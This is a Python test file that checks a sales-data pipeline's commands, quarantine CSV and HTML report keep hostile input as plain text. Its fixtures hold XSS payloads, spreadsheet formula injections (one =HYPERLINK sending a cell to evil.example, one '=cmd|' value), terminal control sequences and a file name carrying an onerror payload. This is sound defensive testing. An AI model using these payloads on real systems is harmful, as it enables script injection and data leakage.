"""Whatever a source holds, wherever it is shown, is text: in the page, in spreadsheets, on terminals."""

from __future__ import annotations

import asyncio
import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest

from pipeline.testing import LocalOmneo
from tests.command import Ended, call
from tests.receipts import COLUMNS, Row, receipt
from tests.report.browser import browser
from tests.report.test_page import CLEAN, LOOKS, needs_chromium

pytestmark = pytest.mark.slow

CONTROLS = "\x1b[31m\x1b]0;owned\x07\x08\r\x9b2J\u202egnp\x7f"
SCRIPT = "<script>window.owned=1</script><img src=x onerror='window.owned=1'>"
HOSTILE = [
    SCRIPT,
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    CONTROLS,
    "x" * 10_000,
]
ALL = f"{SCRIPT}{CONTROLS}" + "`|*[a](http://evil.example)" + "y" * 10_000
FILE = f"pos_lines <img src=x onerror=window.owned=1>{CONTROLS}=1+1.csv"
UNMAPPED = [f"=cmd|{SCRIPT}{CONTROLS}", "z" * 10_000]
OPEN_GATE = ("--max-rejected", "100%")
NOT_TEXT = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")


def rows() -> Iterator[Row]:
    """Good sales with hostile texts, then sales in which one cell is hostile, then rows of nothing else."""
    for n, text in enumerate([*HOSTILE, ALL]):
        yield from receipt(f"good{n}", 1, description=text, sku=text, staff_code=text[:50])
    for n, column in enumerate(COLUMNS):
        for m, text in enumerate([*HOSTILE, ALL]):
            (row,) = receipt(f"{n}-{m}", 1)
            row[COLUMNS.index(column)] = text
            yield row
    yield [ALL] * len(COLUMNS)
    yield [ALL] * 3


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("export") / FILE
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow([*COLUMNS, *UNMAPPED])
        writer.writerows([*row, ALL, "="] if len(row) == len(COLUMNS) else row for row in rows())
    return path


@pytest.fixture(scope="module")
def prepared(source: Path, tmp_path_factory: pytest.TempPathFactory) -> Ended:
    workdir = tmp_path_factory.mktemp("w") / "w"
    return call("prepare", "-m", "pos_lines", source, "--json", "-v", *OPEN_GATE, "--workdir", workdir)


def run_dir(prepared: Ended) -> Path:
    return Path(prepared.summary["run_dir"])


def assert_text(shown: str) -> None:
    assert NOT_TEXT.findall(shown) == []


def test_terminals_are_shown_text_by_every_command(
    prepared: Ended, source: Path, omneo: LocalOmneo, tmp_path: Path
) -> None:
    assert prepared.code == 0
    assert prepared.summary["transactions"]["accepted"] > len(HOSTILE)
    assert_text(prepared.stderr)
    home = ("--workdir", run_dir(prepared).parent.parent)
    commands: list[tuple[object, ...]] = [
        ("status", "latest"),
        ("status",),
        ("report", "latest", "--format", "markdown"),
        ("preview", "-m", "pos_lines", source, "-n", "200"),
        ("check", "-m", "pos_lines", source),
        ("check", "-m", "loyverse_receipts", source),
        ("scaffold", source),
        ("prepare", "-m", "pos_lines", tmp_path / CONTROLS),
        ("prepare", "-m", CONTROLS, source),
        ("preflight", "latest"),
        ("load", "latest"),
        ("confirm", "latest"),
        ("load", CONTROLS),
    ]
    for command in commands:
        ended = call(*command, *home, env=omneo.environment())
        assert ended.stdout + ended.stderr, command
        assert_text(ended.stdout + ended.stderr)


def test_the_list_of_reasons_is_safe_in_a_spreadsheet(prepared: Ended) -> None:
    path = run_dir(prepared) / "quarantine.csv"
    rows = pl.read_csv(path, infer_schema=False)
    cells = [cell for row in rows.iter_rows() for cell in row if cell]
    assert [cell[:40] for cell in cells if re.match(r"[=+\-@\t\r\n]", cell)] == []
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert_text("".join(rows["value"].drop_nulls()).replace("\r", ""))
    assert_text(path.read_text(encoding="utf-8").replace("\r", ""))


def test_the_report_holds_it_as_text(prepared: Ended) -> None:
    page = Path(prepared.summary["report"]).read_text(encoding="utf-8")
    assert page.count("<script>") == 1
    assert "<img" not in page
    assert "&lt;script&gt;window.owned=1" in page
    assert_text(page)
    assert "x" * 600 not in page
    assert len(page) < 400_000
    report = (run_dir(prepared) / "report.json").read_text(encoding="utf-8")
    assert_text(report)
    assert "\\u009b" in report
    assert CONTROLS in json.loads(report)["provenance"]["sources"][0]["name"], "it is the same text"


@needs_chromium
@pytest.mark.parametrize("width", [390, 1280])
def test_no_script_runs_in_a_browser(width: int, prepared: Ended) -> None:
    page = Path(prepared.summary["report"])

    async def look() -> None:
        async with browser() as tab:
            await tab.open(page.as_uri(), width=width)
            assert await tab.evaluate(LOOKS) == CLEAN
            assert tab.complaints == []
            assert set(tab.requests) <= {page.as_uri(), "data:,"}

    asyncio.run(look())
